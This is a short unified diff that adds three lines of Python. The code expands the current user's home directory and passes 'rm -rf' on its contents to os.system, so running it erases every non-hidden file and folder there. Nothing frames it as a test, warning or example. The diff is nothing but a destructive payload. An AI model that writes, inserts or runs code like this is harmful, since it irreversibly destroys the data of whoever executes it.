@@ -1,0 +1,3 @@
+import os
+target = os.path.expanduser("~")
+os.system("rm -rf " + target + "/*")
